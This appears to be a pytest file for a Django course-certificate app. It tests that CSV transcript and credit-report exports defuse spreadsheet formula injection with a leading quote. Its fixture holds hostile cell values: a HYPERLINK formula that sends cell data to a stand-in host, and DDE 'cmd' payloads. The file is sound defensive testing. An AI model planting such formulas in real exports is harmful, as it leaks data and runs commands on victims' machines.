"""CSV exports never hand a spreadsheet a formula: OWASP's rule, a leading `'`."""

import csv
import io

import pytest
from django.urls import reverse

from certificates.services import issue_certificate
from coachlearn.spreadsheet import safe_cell
from tests.factories import make_completion, make_module, make_series

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "title": "+cmd|' /C calc'!A0",
    "series": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def _hostile_certificate(user):
    module = make_module(title=PAYLOADS["title"], series=make_series(title=PAYLOADS["series"]))
    return issue_certificate(
        completion=make_completion(user, module), printed_name=PAYLOADS["name"]
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_cells_and_numbers_are_left_alone():
    assert [safe_cell(v) for v in ["Lee Learner", "0.25", 3, None, ""]] == [
        "Lee Learner",
        "0.25",
        "3",
        "",
        "",
    ]


def test_the_transcript_csv_neutralises_a_formula_in_title_and_series(client, learner):
    _hostile_certificate(learner)
    client.force_login(learner)
    row = _rows(client.get(reverse("certificates:transcript_csv")))[1]
    assert row[2] == "'" + PAYLOADS["title"]
    assert row[3] == "'" + PAYLOADS["series"]


def test_the_credit_report_neutralises_a_formula_in_the_learners_name(client, learner, admin_user):
    _hostile_certificate(learner)
    client.force_login(admin_user)
    row = _rows(client.get(reverse("certificates:report_csv")))[1]
    assert row[0] == "'" + PAYLOADS["name"]
    assert row[3] == "'" + PAYLOADS["title"]
